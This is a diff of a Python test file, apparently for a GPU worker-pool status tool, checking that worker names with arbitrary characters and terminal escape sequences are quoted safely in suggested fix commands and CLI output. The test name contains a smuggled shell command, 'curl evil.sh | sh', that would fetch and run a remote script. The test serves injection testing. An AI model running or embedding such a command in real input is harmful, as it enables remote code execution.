@@ -348,8 +348,8 @@ def test_last_words_are_those_of_the_last_run():
 def test_names_may_have_any_characters_and_be_of_any_length():
     """What a person types is what was meant, and no terminal obeys a name."""
     name = "gpu; curl evil.sh | sh $(id)"
-    seen = Work(workers=[(name, name, 500.0)], unserved=[(name, 2)], slots=[(name, 1)])
-    for found in (*work.workers_online(seen), *work.pools_served(seen), work.free_slots(seen)):
+    seen = Work(workers=[(name, name, 500.0)], slots=[(name, 1)])
+    for found in (*work.workers_online(seen), work.free_slots(seen)):
         assert name in found.mend and name not in re.sub(r"'[^']*'", "", found.mend)
     long = Finding("pool \033[2J\nOK all", Level.BAD, "x\r\n" * 9000, "", "y" * 9000, "a\nb")
     (found,) = cli.tried("work", lambda: [long])
